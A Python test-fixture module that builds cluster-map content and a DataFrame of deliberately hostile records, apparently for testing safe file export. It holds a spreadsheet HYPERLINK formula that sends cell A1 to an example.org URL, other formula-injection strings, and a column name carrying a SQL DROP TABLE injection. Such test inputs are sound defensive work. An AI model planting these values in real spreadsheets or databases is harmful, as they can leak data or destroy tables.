"""The maps that the tests of files write."""

from __future__ import annotations

import functools
from typing import Any, Final

import pandas as pd

from geo import ClusterMap
from geo.render.facts.content import MapContent
from geo.render.files.provenance import Provenance, read_provenance
from geo.render.files.table import Table
from geo.render.files.tables import read_tables
from geo.render.options import MapOptions
from geo.tables.clusters import read_clusters

FORMULA: Final = '=HYPERLINK("https://example.org/?"&A1,"open")'


@functools.cache
def content(edition: int = 2023, records: str = "bioclusters", **options: Any) -> MapContent:
    atlas = ClusterMap(
        read_clusters(records),
        options=MapOptions(edition=edition, name=records, title={"en": "A map"}, **options),
    )
    return content_of(atlas)


def content_of(atlas: ClusterMap) -> MapContent:
    return atlas._content()


@functools.cache
def tables(edition: int = 2023) -> dict[str, Table]:
    return {table.name: table for table in read_tables(content(edition))}


def about(edition: int = 2023) -> Provenance:
    return read_provenance(content(edition))


@functools.cache
def own() -> ClusterMap:
    """Make a map of records with text that spreadsheets compute, and with columns of their own."""
    records = pd.DataFrame(
        {
            "name": [FORMULA, "Antilles Énergie", "Nowhere"],
            "country": ["DE", "FR", "US"],
            "region": ["Berlin", "Guadeloupe", None],
            "lat": [52.5, None, None],
            "lon": [13.4, None, None],
            "Note": ["@SUM(A1)", "#N/A", "plain"],
            "budget": [1.5, 2, None],
            "staff": [3, 4, 5],
            "code": ["7", None, 7],
            "bell": ["a\x07b", None, None],
            "=1+1": ["x", None, None],
            'a"b; DROP TABLE regions': ["x", None, None],
            "bbox": [1, 2, 3],
            "FID": [7, 8, 9],
            "long": ["z" * 40_000, None, None],
        }
    )
    return ClusterMap(records, options=MapOptions(name="own", title={"en": "Own"}))
